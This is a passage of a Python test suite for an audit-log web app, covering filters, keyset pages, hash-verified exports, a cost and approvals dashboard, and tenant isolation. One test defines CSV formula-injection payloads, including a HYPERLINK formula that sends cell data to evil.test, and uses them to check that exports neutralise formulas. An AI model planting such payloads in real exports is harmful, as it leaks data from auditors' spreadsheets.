"""The auditors' pages: the audit log browser and its filters, keyset pages, exports that verify
outside the app, the costs and approvals dashboard, tenant isolation and bad input."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import tracemalloc
import uuid
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from sqlalchemy import delete, select

from demo.billing import synthetic
from tests.clients import session_as
from tests.conftest import desk_app, pushed
from webapp import audit_chain
from webapp.audit import charts, costs, exports, queries
from webapp.config import Config, ConfigError
from webapp.models import AuditEvent, AuditHead, Conversation, Tenant, User
from webapp.runtime.extensions import db
from webapp.runtime.services import services
from webapp.web.pagination import encode_cursor

AUDITOR = "auditor@acme.test"
GENERATED = 20_000


@pytest.fixture
def fresh(app):
    """An empty audit log before and after the test (the conftest's `clean` leaves it alone)."""

    def empty():
        db.session.execute(delete(AuditEvent))
        db.session.execute(delete(AuditHead))
        db.session.commit()

    empty()
    yield
    empty()


@pytest.fixture
def acme(app) -> int:
    return db.session.scalar(select(Tenant.id).where(Tenant.slug == "acme"))


@pytest.fixture
def generated(fresh, acme) -> list[dict]:
    """GENERATED synthetic events on acme's chain, as the database holds them, newest first."""
    db.session.remove()  # the generator writes on connections of its own (SQLite: one writer at a time)
    synthetic.generate_events(db.engine, acme, GENERATED, seed=7, batch_size=3000)
    rows = db.session.scalars(select(AuditEvent).order_by(AuditEvent.id.desc())).all()
    events = [exports.record(row) for row in rows]
    db.session.remove()
    return events


def walk(api, email: str, **params) -> list[dict]:
    """Every event GET /api/audit gives for these filters, following next_cursor to the end."""
    events, cursor = [], None
    while True:
        query = {**params, "limit": 500, **({"cursor": cursor} if cursor else {})}
        reply = api.as_(email).get("/api/audit", query_string=query)
        assert reply.status_code == 200, reply.json
        events += reply.json["events"]
        cursor = reply.json["next_cursor"]
        if cursor is None:
            return events


def ids(events) -> list[int]:
    return [event["id"] for event in events]


# --- the demo flow ----------------------------------------------------------------------------


def test_the_demo_flow_leaves_every_step_in_the_log_in_order(app, api, model, fresh):
    message = 'Refund $60 on invoice 4471 and email customer 4471 saying "Your refund is on its way"'
    created = api.as_("agent@acme.test").post("/api/conversations", json={"message": message}).json
    conversation = db.session.get(Conversation, created["id"])
    assert services().loop(db.session, conversation).complete() == "awaiting_approval"
    waiting = api.as_("reviewer@acme.test").get("/api/approvals").json["approvals"]
    assert {call["name"] for call in waiting} == {"issue_refund", "send_email"}
    for call in sorted(waiting, key=lambda call: call["id"]):
        decided = api.as_("reviewer@acme.test").post(f"/api/approvals/{call['id']}", json={"decision": "approve"})
        assert decided.status_code == 200, decided.json
    assert services().loop(db.session, db.session.get(Conversation, created["id"])).complete() == "completed"
    db.session.remove()

    events = list(reversed(walk(api, AUDITOR, conversation=str(created["id"]))))
    assert [(e["action"], e["tool_name"], e["outcome"]) for e in events] == [
        ("conversation_started", None, None),
        ("model_call", None, "tool_use"),
        ("tool_call_requested", "issue_refund", "awaiting_approval"),
        ("approval_requested", "issue_refund", "awaiting_approval"),
        ("tool_call_requested", "send_email", "awaiting_approval"),
        ("approval_requested", "send_email", "awaiting_approval"),
        ("conversation_waiting", None, "awaiting_approval"),
        ("approval_decided", "issue_refund", "approved"),
        ("approval_decided", "send_email", "approved"),
        ("tool_call_executed", "issue_refund", "succeeded"),
        ("tool_call_executed", "send_email", "succeeded"),
        ("model_call", None, "end_turn"),
        ("conversation_completed", None, "completed"),
    ]
    people = {e["action"]: e["actor_label"] for e in events}
    assert people["conversation_started"] == "agent@acme.test"
    assert people["approval_decided"] == "reviewer@acme.test"
    assert people["model_call"] == "assistant"
    assert people["tool_call_executed"] == "agent@acme.test"  # tools run as the person who asked
    assert events[1]["data"]["input_tokens"] > 0 and events[1]["data"]["model"]
    assert [e["seq"] for e in events] == sorted(e["seq"] for e in events)

    page = session_as(app, AUDITOR).get(f"/audit/conversations/{created['id']}").get_data(as_text=True)
    shown = re.findall(r'<tr id="audit-event-(\d+)"', page)
    assert [int(i) for i in shown] == ids(events)  # the timeline runs oldest first
    assert f'href="/conversations/{created["id"]}#tool-call-' in page
    listing = session_as(app, AUDITOR).get("/audit").get_data(as_text=True)
    assert f'href="/conversations/{created["id"]}"' in listing and "issue_refund" in listing
    assert audit_chain.verify(db.session).ok


# --- filters and keyset pages -----------------------------------------------------------------


def test_filters_and_keyset_pages_give_exactly_the_matching_events_newest_first(app, api, generated, acme, monkeypatch):
    assert len(generated) == GENERATED
    some = next(e for e in generated if e["action"] == "approval_decided" and e["outcome"] == "rejected")
    reviewer = db.session.scalar(select(User).where(User.email == "reviewer@acme.test"))
    middle = datetime.fromisoformat(generated[GENERATED // 2]["created_at"]).date()
    db.session.remove()
    cases = [
        ({"action": "approval_decided"}, lambda e: e["action"] == "approval_decided"),
        ({"tool": "issue_refund"}, lambda e: e["tool_name"] == "issue_refund"),
        ({"outcome": "failed"}, lambda e: e["outcome"] == "failed"),
        ({"person": "reviewer@acme.test"}, lambda e: e["actor_id"] == reviewer.id),
        (
            {"person": str(reviewer.id), "outcome": "rejected"},
            lambda e: e["actor_id"] == reviewer.id and e["outcome"] == "rejected",
        ),
        (
            {"person": "assistant", "action": "model_call"},
            lambda e: e["actor_label"] == "assistant" and e["action"] == "model_call",
        ),
        ({"conversation": str(some["conversation_id"])}, lambda e: e["conversation_id"] == some["conversation_id"]),
        ({"q": "chargeback"}, lambda e: "chargeback" in json.dumps(e["data"]).lower()),
        (
            {"q": "CHARGEBACK", "tool": "send_email"},
            lambda e: "chargeback" in json.dumps(e["data"]).lower() and e["tool_name"] == "send_email",
        ),
        ({"from": middle.isoformat(), "to": middle.isoformat()}, lambda e: e["created_at"][:10] == middle.isoformat()),
        (
            {"to": middle.isoformat(), "action": "approval_requested"},
            lambda e: e["created_at"][:10] <= middle.isoformat() and e["action"] == "approval_requested",
        ),
    ]
    # A day of this set is a short period (read by time, then sorted); with SHORT_PERIOD at 1 every
    # period is a long one (read by walking the ids): both must give the same pages.
    for short_period in (queries.SHORT_PERIOD, 1):
        monkeypatch.setattr(queries, "SHORT_PERIOD", short_period)
        for params, matches in cases:
            expected = [e for e in generated if matches(e)]
            assert expected, params
            assert ids(walk(api, AUDITOR, **params)) == ids(expected), (params, short_period)
    monkeypatch.undo()
    everything = walk(api, AUDITOR)
    assert ids(everything) == ids(generated) and everything[0] == generated[0]

    # The page: PAGE_SIZE newest, then "Older events" with a cursor, keeping the filters.
    client = session_as(app, AUDITOR)
    expected = [e for e in generated if e["action"] == "tool_call_executed"]
    url = "/audit?action=tool_call_executed"
    for page_number in range(3):
        html = client.get(url).get_data(as_text=True)
        shown = [int(i) for i in re.findall(r'<tr id="audit-event-(\d+)"', html)]
        start = page_number * queries.PAGE_SIZE
        assert shown == ids(expected[start : start + queries.PAGE_SIZE])
        older = re.search(r'<a href="(/audit\?[^"]+)"\s+hx-get="[^"]+" hx-target="#audit-results"', html)
        url = older.group(1).replace("&amp;", "&")
        assert "action=tool_call_executed" in url and "cursor=" in url
    # The page and the API share their cursors: the API's next_cursor after all but the last two
    # events opens the page of those two, the last one.
    cursor, seen = None, 0
    while seen < len(expected) - 2:
        query = {"action": "tool_call_executed", "limit": min(500, len(expected) - 2 - seen)}
        reply = api.as_(AUDITOR).get("/api/audit", query_string={**query, **({"cursor": cursor} if cursor else {})})
        seen, cursor = seen + len(reply.json["events"]), reply.json["next_cursor"]
    deep = client.get("/audit", query_string={"action": "tool_call_executed", "cursor": cursor}).get_data(as_text=True)
    assert [int(i) for i in re.findall(r'<tr id="audit-event-(\d+)"', deep)] == ids(expected[-2:])
    assert "Older events" not in deep and "Back to the newest" in deep


def test_the_filter_form_updates_only_the_results_with_htmx_and_the_url_keeps_working(app, generated):
    client = session_as(app, AUDITOR)
    page = client.get("/audit?action=model_call").get_data(as_text=True)
    assert 'hx-get="/audit" hx-target="#audit-results" hx-swap="outerHTML" hx-push-url="true"' in page
    assert '<form method="get" action="/audit"' in page  # works without JavaScript too
    fragment = client.get("/audit?action=model_call", headers={"HX-Request": "true"})
    html = fragment.get_data(as_text=True)
    assert html.lstrip().startswith('<section id="audit-results"') and "<html" not in html
    assert "HX-Request" in fragment.headers["Vary"]
    restored = client.get(
        "/audit?action=model_call", headers={"HX-Request": "true", "HX-History-Restore-Request": "true"}
    )
    assert "<html" in restored.get_data(as_text=True)
    for url in ("/audit", "/audit/dashboard", f"/audit/conversations/{generated[0]['conversation_id']}"):
        html = client.get(url).get_data(as_text=True)
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), url
        assert " style=" not in html and "<style" not in html, url
        assert not re.search(r"\son[a-z]+=", html), url


def test_searching_arguments_and_reasons_finds_quotes_and_accents_on_every_database(app, api, fresh, acme):
    reviewer = db.session.scalar(select(User).where(User.email == "reviewer@acme.test"))
    reason = 'Kunde sagt "nein" – café 50%_off'
    audit_chain.record(
        db.session, "approval_decided", tenant_id=acme, actor=reviewer, outcome="rejected", data={"reason": reason}
    )
    audit_chain.record(
        db.session, "approval_decided", tenant_id=acme, actor=reviewer, outcome="rejected", data={"reason": "x"}
    )
    db.session.commit()
    for text in ('"nein"', "café", "CAFÉ" if db.engine.dialect.name == "postgresql" else "Café", "50%_off", "sagt"):
        found = walk(api, AUDITOR, q=text)
        assert [e["data"]["reason"] for e in found] == [reason], text
    assert walk(api, AUDITOR, q="50%_of_") == []  # % and _ are literal


def test_searching_for_like_wildcards_finds_only_the_literal_text(app, api, fresh, acme):
    reviewer = db.session.scalar(select(User).where(User.email == "reviewer@acme.test"))
    reasons = ("50%_off", "5000 off", "50%xoff", "50_%off", "C:\\refunds/2026", "C:Xrefunds/2026", "C:\\refundsX2026")
    for reason in reasons:
        audit_chain.record(db.session, "approval_decided", tenant_id=acme, actor=reviewer, data={"reason": reason})
    db.session.commit()
    for text, found in (
        ("50%_off", {"50%_off"}),  # as patterns, % and _ would also match "5000 off" and "50%xoff"
        ("50_%", {"50_%off"}),
        ("%", {"50%_off", "50%xoff", "50_%off"}),
        ("_", {"50%_off", "50_%off"}),
        ("C:\\refunds/", {"C:\\refunds/2026"}),  # backslashes and slashes are literal too
        ("s/2", {"C:\\refunds/2026", "C:Xrefunds/2026"}),
    ):
        assert {e["data"]["reason"] for e in walk(api, AUDITOR, q=text)} == found, text


# --- exports ----------------------------------------------------------------------------------


def verify_outside_the_app(records: list[dict]) -> None:
    """What an auditor would do with an export: every hash matches its fields, and the chain links."""
    for fields in records:
        assert audit_chain.event_hash(fields) == fields["hash"], fields["id"]
    ordered = sorted(records, key=lambda fields: fields["seq"])
    assert [f["seq"] for f in ordered] == list(range(1, len(ordered) + 1))
    assert ordered[0]["prev_hash"] == audit_chain.GENESIS
    for before, after in zip(ordered, ordered[1:], strict=False):
        assert after["prev_hash"] == before["hash"], after["seq"]


def test_exports_stream_every_field_and_verify_outside_the_app(app, generated, monkeypatch):
    monkeypatch.setattr(exports, "EXPORT_BATCH", 1500)  # many batches, each on its own connection
    client = session_as(app, AUDITOR)
    response = client.get("/audit/export.csv")
    assert response.status_code == 200 and response.is_streamed
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert tuple(rows[0]) == exports.EXPORT_FIELDS
    from_csv = [exports.record_from_csv(row) for row in rows]
    assert [f["id"] for f in from_csv] == sorted(ids(generated))
    verify_outside_the_app(from_csv)

    response = client.get("/audit/export.jsonl")
    assert response.status_code == 200 and response.is_streamed
    from_jsonl = [json.loads(line) for line in response.get_data(as_text=True).splitlines()]
    assert from_jsonl == list(reversed(generated))
    verify_outside_the_app(from_jsonl)

    filtered = client.get("/audit/export.jsonl?action=approval_decided&outcome=rejected").get_data(as_text=True)
    picked = [json.loads(line) for line in filtered.splitlines()]
    assert ids(picked) == sorted(
        e["id"] for e in generated if e["action"] == "approval_decided" and e["outcome"] == "rejected"
    )
    assert all(audit_chain.event_hash(fields) == fields["hash"] for fields in picked)


FORMULAS = ('=HYPERLINK("http://evil.test/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")


def test_a_csv_export_never_hands_a_spreadsheet_a_formula_and_still_verifies(app, fresh, acme):
    """Text someone else chose reaches the export; a cell starting with = + - @ tab or CR would run
    as a formula in the auditor's spreadsheet."""
    reviewer = db.session.scalar(select(User).where(User.email == "reviewer@acme.test"))
    for label in (*FORMULAS, "'quoted", "plain"):
        audit_chain.record(db.session, "approval_decided", tenant_id=acme, actor=reviewer, actor_label=label)
    audit_chain.record(db.session, "approval_decided", tenant_id=acme, actor=reviewer, outcome="=1+1", data={"n": 1})
    db.session.commit()
    client = session_as(app, AUDITOR)

    text = client.get("/audit/export.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == [], text
    labels = {f"'{label}" for label in (*FORMULAS, "'quoted")} | {"plain", "'=1+1"}
    assert labels <= set(cells)
    from_csv = [exports.record_from_csv(row) for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert {f["actor_label"] for f in from_csv} >= {*FORMULAS, "'quoted", "plain"}  # the prefix undone
    assert "=1+1" in {f["outcome"] for f in from_csv}
    verify_outside_the_app(from_csv)

    lines = client.get("/audit/export.jsonl").get_data(as_text=True).splitlines()
    from_jsonl = [json.loads(line) for line in lines]  # JSON Lines keeps the text exactly
    assert {f["actor_label"] for f in from_jsonl} >= {*FORMULAS, "'quoted", "plain"}
    assert from_jsonl == from_csv
    verify_outside_the_app(from_jsonl)


def test_an_export_holds_one_batch_in_memory_whatever_the_size_of_the_log(app, generated, acme):
    everything = queries.Selection([AuditEvent.tenant_id == acme], AuditEvent.id)
    db.session.remove()

    def peak_memory(batches: int | None) -> tuple[int, int]:
        tracemalloc.start()
        try:
            chunks = exports.jsonl_chunks(exports.ascending(db.engine, everything, batch_size=1000))
            size = sum(len(chunk) for chunk in itertools.islice(chunks, batches))
            return tracemalloc.get_traced_memory()[1], size
        finally:
            tracemalloc.stop()

    peak_memory(1)  # compiled statements and pools are cached from here on
    small_peak, small = peak_memory(4)
    whole_peak, whole = peak_memory(None)
    assert whole == sum(len(json.dumps(e)) + 1 for e in generated) and whole > 4 * small
    assert whole_peak < 1.5 * small_peak, f"{whole_peak:,} bytes for {whole:,}; {small_peak:,} for {small:,}"


# --- the dashboard ----------------------------------------------------------------------------


@pytest.fixture
def small_case(app, fresh, acme):
    """A few events at chosen times: two conversations, four model calls, three decisions, five runs."""
    agent = db.session.scalar(select(User).where(User.email == "agent@acme.test"))
    admin = db.session.scalar(select(User).where(User.email == "admin@acme.test"))
    reviewer = db.session.scalar(select(User).where(User.email == "reviewer@acme.test"))
    ours = Conversation(tenant_id=acme, user_id=agent.id, title="small case")
    theirs = Conversation(tenant_id=acme, user_id=admin.id, title="small case 2")
    db.session.add_all([ours, theirs])
    db.session.commit()
    today = datetime.now(UTC).replace(hour=0, minute=1, second=0, microsecond=0)
    yesterday = today - timedelta(days=1)

    def at(moment, action, **fields):
        stamp = audit_chain.utcnow
        audit_chain.utcnow = lambda: moment  # record() stamps the event with it
        try:
            audit_chain.record(db.session, action, tenant_id=acme, **fields)
        finally:
            audit_chain.utcnow = stamp
        db.session.commit()

    def usage(model, input_tokens, output_tokens, cache_write=0, cache_read=0):
        return {
            "model": model,
            "input_tokens": input_tokens,
            "output_tokens": output_tokens,
            "cache_creation_input_tokens": cache_write,
            "cache_read_input_tokens": cache_read,
            "latency_ms": 10.0,
            "request_id": "req_1",
        }

    # Yesterday: a Sonnet call asks for two tools (shared half and half), then answers.
    at(
        yesterday,
        "model_call",
        conversation_id=ours.id,
        outcome="tool_use",
        data=usage("claude-sonnet-5", 1000, 100, 0, 2000),
    )
    at(yesterday, "tool_call_requested", conversation_id=ours.id, tool_call_id=1, tool_name="lookup_customer")
    at(yesterday, "tool_call_requested", conversation_id=ours.id, tool_call_id=2, tool_name="issue_refund")
    at(
        yesterday + timedelta(minutes=1),
        "model_call",
        conversation_id=ours.id,
        outcome="end_turn",
        data=usage("claude-opus-5", 500, 50),
    )
    # Today: the admin's conversation: a Haiku call asking for one tool, and an unknown model.
    at(today, "model_call", conversation_id=theirs.id, outcome="tool_use", data=usage("claude-haiku-5", 2000, 400, 800))
    at(today, "tool_call_requested", conversation_id=theirs.id, tool_call_id=3, tool_name="issue_refund")
    at(today, "model_call", conversation_id=theirs.id, outcome="end_turn", data=usage("mystery-1", 10, 10))
    # Decisions: approved after 60 s (by two people, the first changing the amount), rejected after
    # 180 s (asked yesterday), expired after an hour.
    refund = {"tool_name": "issue_refund"}
    for call, asked, tool in ((11, today, refund), (12, today - timedelta(seconds=120), refund), (13, today, {})):
        at(
            asked,
            "approval_requested",
            tool_call_id=call,
            tool_name=tool.get("tool_name", "close_account"),
            outcome="awaiting_approval",
        )
    changed = {"input": {"amount": 50}, "edited_to": {"amount": 20}}
    at(
        today + timedelta(seconds=30),
        "approval_decided",
        actor=reviewer,
        tool_call_id=11,
        outcome="awaiting_approval",
        data=changed,
        **refund,
    )
    at(
        today + timedelta(seconds=60),
        "approval_decided",
        actor=admin,
        tool_call_id=11,
        outcome="approved",
        data={"edited_to": None},
    )
    at(today + timedelta(seconds=60), "approval_decided", actor=reviewer, tool_call_id=12, outcome="rejected", **refund)
    at(today + timedelta(hours=1), "approval_expired", tool_call_id=13, outcome="expired")
    # Runs: lookup_customer fails once in four, issue_refund never.
    for outcome in ("succeeded", "failed", "succeeded", "succeeded"):
        at(today, "tool_call_executed", actor=agent, tool_call_id=1, tool_name="lookup_customer", outcome=outcome)
    at(today, "tool_call_executed", actor=agent, tool_call_id=2, tool_name="issue_refund", outcome="succeeded")
    db.session.remove()
    return {
        "today": today.date(),
        "yesterday": yesterday.date(),
        "agent": agent.email,
        "admin": admin.email,
        "reviewer": reviewer.email,
    }


def test_the_dashboard_figures_match_a_hand_computed_case(app, env, acme, small_case):
    today, yesterday = small_case["today"], small_case["yesterday"]
    board = costs.dashboard(db.engine, acme, today - timedelta(days=29), today)
    # USD per million tokens: Sonnet 3 in, 15 out, 0.30 cache read; Opus 5/25; Haiku 1/5, 1.25 cache write.
    sonnet = Decimal("0.003") + Decimal("0.0015") + Decimal("0.0006")
    opus = Decimal("0.0025") + Decimal("0.00125")
    haiku = Decimal("0.002") + Decimal("0.002") + Decimal("0.001")
    assert board.usage_by_day[yesterday].cost == sonnet + opus
    assert board.usage_by_day[yesterday].model_calls == 2
    assert board.usage_by_day[today].cost == haiku  # the unknown model costs 0 ...
    assert board.usage_by_day[today].model_calls == 2
    assert board.unpriced_models == {"mystery-1"}  # ... and is flagged
    assert board.usage_total.input_tokens == 1000 + 500 + 2000 + 10
    assert board.usage_total.cache_read_tokens == 2000 and board.usage_total.cache_write_tokens == 800
    assert sum(board.usage_by_day[day].cost for day in board.days) == sonnet + opus + haiku
    assert {person: usage.cost for person, usage in board.usage_by_person.items()} == {
        small_case["agent"]: sonnet + opus,
        small_case["admin"]: haiku,
    }
    by_tool = board.usage_by_tool
    assert by_tool["lookup_customer"].cost == sonnet / 2
    assert by_tool["issue_refund"].cost == sonnet / 2 + haiku
    assert by_tool["lookup_customer"].input_tokens == 500 and by_tool["issue_refund"].model_calls == Decimal("1.5")
    assert by_tool[costs.NO_TOOL].cost == opus and by_tool[costs.NO_TOOL].model_calls == 2
    # The prompt cache: yesterday's Sonnet call read 2,000 of the 3,500 tokens sent that day.
    assert board.usage_by_day[yesterday].cache_read_share == 2000 / 3500
    assert (
        board.usage_by_day[today].cache_read_share == 0
        and board.usage_by_day[today - timedelta(days=3)].cache_read_share is None
    )
    (_, (_, ours)), (_, (_, theirs)) = board.usage_by_conversation.items()  # the most sent first
    assert (ours.prompt_tokens, theirs.prompt_tokens) == (3500, 2000 + 800 + 10)
    assert ours.cache_read_share == 2000 / 3500 and theirs.cache_read_share == 0

    approvals = board.approvals_total
    assert (approvals.requested, approvals.approved, approvals.rejected, approvals.expired) == (3, 1, 1, 1)
    assert sorted(approvals.latencies) == [60.0, 180.0, 3600.0]
    assert approvals.median == 180.0 and approvals.p95 == 3600.0
    assert approvals.share("approved") == approvals.share("rejected") == approvals.share("expired") == 1 / 3
    assert board.approvals_by_day[yesterday].requested == 1 and board.approvals_by_day[today].decided == 3
    assert board.tools["lookup_customer"].error_rate == 0.25 and board.tools["issue_refund"].error_rate == 0
    # The decision side. By tool, each call's final outcome: the refund approved with the first
    # approver's change and the one rejected were both changed or refused; the closure expired.
    refunds, closures = board.approvals_by_tool["issue_refund"], board.approvals_by_tool["close_account"]
    assert list(board.approvals_by_tool) == ["issue_refund", "close_account"]  # the most decided first
    assert (refunds.approved, refunds.edited, refunds.as_asked, refunds.rejected) == (1, 1, 0, 1)
    assert refunds.changed_share == 1.0 and sorted(refunds.latencies) == [60.0, 180.0]
    assert (closures.expired, closures.decided, closures.changed_share) == (1, 1, None)
    assert not refunds.often_changed  # two decisions are too few to tell
    assert (
        costs.Approvals(approved=5, edited=2).often_changed and not costs.Approvals(approved=8, edited=1).often_changed
    )
    # By reviewer, each person's own decision and when they made it: the first of two approvals counts.
    mine, theirs = board.approvals_by_reviewer[small_case["reviewer"]], board.approvals_by_reviewer[small_case["admin"]]
    assert (mine.approved, mine.edited, mine.rejected, sorted(mine.latencies)) == (1, 1, 1, [30.0, 180.0])
    assert (theirs.approved, theirs.as_asked, theirs.latencies) == (1, 1, [60.0])
    assert set(board.approvals_by_reviewer) == {small_case["reviewer"], small_case["admin"]}  # expiry is nobody's

    only_today = costs.dashboard(db.engine, acme, today, today)
    assert only_today.usage_total.cost == haiku
    assert only_today.approvals_total.requested == 2  # the one asked yesterday is outside the range ...
    assert sorted(only_today.approvals_total.latencies) == [60.0, 180.0, 3600.0]  # ... but its latency counts

    cheap = configured_prices(env, '{"mystery": {"input": 1000000, "output": 0}}')
    assert costs.dashboard(db.engine, acme, today, today, cheap).usage_total.cost == haiku + 10


def test_the_dashboard_page_shows_the_numbers_beside_charts_drawn_on_the_server(app, small_case):
    client = session_as(app, AUDITOR)
    page = client.get("/audit/dashboard")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert "$0.0050" in html and "$0.0038" in html  # Haiku today, for the admin; Opus's answer, no tool
    assert "No price for mystery-1" in html
    assert "33.3 %" in html and "180.0 s" in html and "3,600.0 s" in html and "25.0 %" in html
    by_tool = html[html.index('id="dashboard-decisions-by-tool"') : html.index('id="dashboard-decisions-by-reviewer"')]
    assert "issue_refund" in by_tool and "close_account" in by_tool and "100.0 %" in by_tool
    by_reviewer = html[html.index('id="dashboard-decisions-by-reviewer"') :]
    assert "reviewer@acme.test" in by_reviewer and "105.0 s" in by_reviewer  # between 30 s and 180 s
    conversations = html[html.index('id="dashboard-usage-by-conversation"') :]
    assert "3,500" in conversations and "57.1 %" in conversations  # sent, and the share read from the cache
    images = re.findall(r'<img src="(/audit/dashboard/chart\.svg\?[^"]+)"', html)
    assert len(images) == len(charts.CHARTS)
    for url in images:
        chart = client.get(url.replace("&amp;", "&"))
        svg = chart.get_data(as_text=True)
        assert chart.status_code == 200 and chart.mimetype == "image/svg+xml"
        assert svg.lstrip().startswith("<?xml") and "<svg" in svg and "<script" not in svg
        assert "default-src 'none'" in chart.headers["Content-Security-Policy"]
    assert client.get("/audit/dashboard/chart.svg?name=nope").status_code == 404
    old = client.get("/audit/dashboard?from=2020-01-01&to=2020-01-31", headers={"HX-Request": "true"})
    assert old.get_data(as_text=True).lstrip().startswith('<div id="audit-dashboard"')
    assert "No model calls in this range." in old.get_data(as_text=True)


def test_prices_set_in_model_prices_change_what_the_dashboard_shows(app, env, small_case):
    def spent(page: str) -> str:
        return " ".join(re.sub(r"<[^>]+>", " ", page.split('id="headline-spend">')[1].split("</p>")[0]).split())

    listed = session_as(app, AUDITOR).get("/audit/dashboard").get_data(as_text=True)
    assert spent(listed) == "$0.0138 spent on the model" and "No price for mystery-1" in listed
    # mystery-1 read 10 tokens, at $1 a token; Sonnet's calls at a tenth of its list prices
    prices = {"mystery": {"input": 1_000_000, "output": 0}, "claude-sonnet": {"input": 0.3, "output": 1.5}}
    with pushed(desk_app({**env, "MODEL_PRICES": json.dumps(prices)})) as priced:
        page = session_as(priced, AUDITOR).get("/audit/dashboard").get_data(as_text=True)
    assert spent(page) == "$10.0093 spent on the model"  # Sonnet 0.00051 + Opus 0.00375 + Haiku 0.005 + 10
    assert "No price for mystery-1" not in page


def test_the_dashboard_lists_only_days_with_figures_newest_first_after_a_headline_row(app, acme, small_case):
    today, yesterday = small_case["today"], small_case["yesterday"]
    board = costs.dashboard(db.engine, acme, today - timedelta(days=29), today)
    assert len(board.days) == 30
    assert board.usage_days == [today, yesterday]  # 28 empty days left out, newest first
    assert board.approval_days == [today, yesterday]  # one asked yesterday; asked and decided today
    assert costs.dashboard(db.engine, acme, today - timedelta(days=9), today - timedelta(days=2)).usage_days == []

    html = session_as(app, AUDITOR).get("/audit/dashboard").get_data(as_text=True)
    headline = html[html.index('id="dashboard-headline"') : html.index('id="dashboard-usage-by-day"')]
    figures = dict(
        (key, " ".join(re.sub(r"<[^>]+>", " ", text).split()))
        for key, text in re.findall(r'id="headline-([a-z-]+)">(.*?)</p>', headline, re.S)
    )
    assert figures == {
        "spend": "$0.0138 spent on the model",  # Sonnet 0.0051 + Opus 0.00375 + Haiku 0.005 + mystery 0
        "model-calls": "4 model calls, 6,870 tokens",
        "decisions": "3 decisions on 3 calls put to a person",
        "median": "180.0 s median time to decision",
    }
    for table in ("usage-days", "approval-days"):
        body = html[html.index(f'id="{table}"') :]
        body = body[: body.index("</tbody>")]
        assert re.findall(r'<th scope="row">(\d{4}-\d\d-\d\d)</th>', body) == [str(today), str(yesterday)]
    assert (
        str(today - timedelta(days=2))
        not in html.split('id="dashboard-usage-by-person"')[0].split("dashboard-from")[-1]
    )
    assert "audit-scroll" not in html  # no inner scroll box hides a row


# --- prices -----------------------------------------------------------------------------------


def configured_prices(env: dict[str, str], model_prices: str) -> costs.PriceTable:
    """The price table of an app started with MODEL_PRICES=model_prices."""
    from webapp.audit.pages import prices

    with pushed(desk_app({**env, "MODEL_PRICES": model_prices})):
        return prices()


def test_prices_go_by_family_or_prefix_and_the_environment_overrides_them(env):
    defaults = costs.PriceTable()
    assert (
        defaults.lookup("claude-sonnet-5")
        == defaults.lookup("claude-3-7-sonnet-latest")
        == costs.DEFAULT_PRICES["sonnet"]
    )
    assert defaults.lookup("claude-opus-4-1-20250805").input == 15
    assert defaults.lookup("claude-haiku-4-5").input == 1 and defaults.lookup("gpt-9") is None
    usage = {"model": "claude-sonnet-5", "input_tokens": 1_000_000, "output_tokens": 1_000_000}
    assert costs.cost(usage) == Decimal(18)
    assert costs.cost({**usage, "model": "gpt-9"}) == 0

    overrides = {
        "claude-sonnet-5": {"input": 2, "output": 10},
        "opus": {"input": 1, "output": 2, "cache_write": 3, "cache_read": 4},
    }
    table = configured_prices(env, json.dumps(overrides))
    assert table.lookup("claude-sonnet-5-20270101") == costs.Price(
        Decimal(2), Decimal(10), Decimal("2.50"), Decimal("0.2")
    )
    assert table.lookup("claude-opus-4-1").cache_read == 4  # an entry of MODEL_PRICES wins over a built-in one
    assert table.lookup("claude-sonnet-4") == costs.DEFAULT_PRICES["sonnet"]
    assert costs.cost(usage, table) == Decimal(12)
    assert configured_prices(env, "  ") == costs.PriceTable()
    for raw, words in (
        ("{nope", "MODEL_PRICES is not valid JSON"),
        ("[1]", "MODEL_PRICES must be a JSON object of model -> prices; e.g. MODEL_PRICES='{"),
        ('{"x": {"input": 1}}', 'MODEL_PRICES["x"] needs at least "input" and "output"'),
        ('{"x": {"input": -1, "output": 1}}', 'MODEL_PRICES["x"]["input"] must be zero or more, got -1'),
        ('{"x": {"input": "abc", "output": 1}}', """MODEL_PRICES["x"]["input"] must be a number, got 'abc'"""),
        ('{"x": {"input": 1, "output": 1, "cache": 1}}', """MODEL_PRICES["x"] has unknown keys ['cache']"""),
    ):
        with pytest.raises(ConfigError, match=re.escape(words)):
            Config.from_env({**env, "MODEL_PRICES": raw})


def test_a_bad_model_prices_setting_stops_the_app_at_boot_with_a_sentence(env, monkeypatch):
    from webapp import create_app

    for variable, value in {**env, "MODEL_PRICES": "{not json"}.items():
        monkeypatch.setenv(variable, value)
    with pytest.raises(SystemExit, match=re.escape("Configuration error: MODEL_PRICES is not valid JSON")):
        create_app()


# --- tenants, bad input, the command line -----------------------------------------------------


def test_auditors_of_another_tenant_see_nothing_of_acme(app, api, cli, generated):
    from webapp.identity import create_user, get_or_create_tenant

    email = f"auditor-{uuid.uuid4().hex[:8]}@globex.test"
    create_user(db.session, email, "demo-password", ["auditor"], get_or_create_tenant(db.session, "globex"))
    db.session.commit()
    db.session.remove()
    acme_conversation = next(e["conversation_id"] for e in generated if e["conversation_id"])
    client = session_as(app, email)
    listing = client.get("/audit").get_data(as_text=True)
    assert "acme.test" not in listing and "audit-event-" not in listing
    assert client.get(f"/audit/conversations/{acme_conversation}").status_code == 404
    assert client.get(f"/audit?conversation={acme_conversation}").get_data(as_text=True).count("audit-event-") == 0
    assert "acme" not in client.get("/audit/export.jsonl").get_data(as_text=True)
    assert client.get("/audit/export.csv").get_data(as_text=True).strip() == ",".join(exports.EXPORT_FIELDS)
    dashboard = client.get("/audit/dashboard").get_data(as_text=True)
    assert "acme.test" not in dashboard and "No model calls in this range." in dashboard
    assert walk(api, email) == []
    assert walk(api, email, person="agent@acme.test") == []
    assert api.as_("agent@acme.test").get("/api/audit").status_code == 403


@pytest.mark.parametrize(
    ("query", "words"),
    [
        ("from=2026-13-40", "“From” must be a date"),
        ("to=yesterday", "“To” must be a date"),
        ("from=2026-02-01&to=2026-01-01", "is after “To”"),
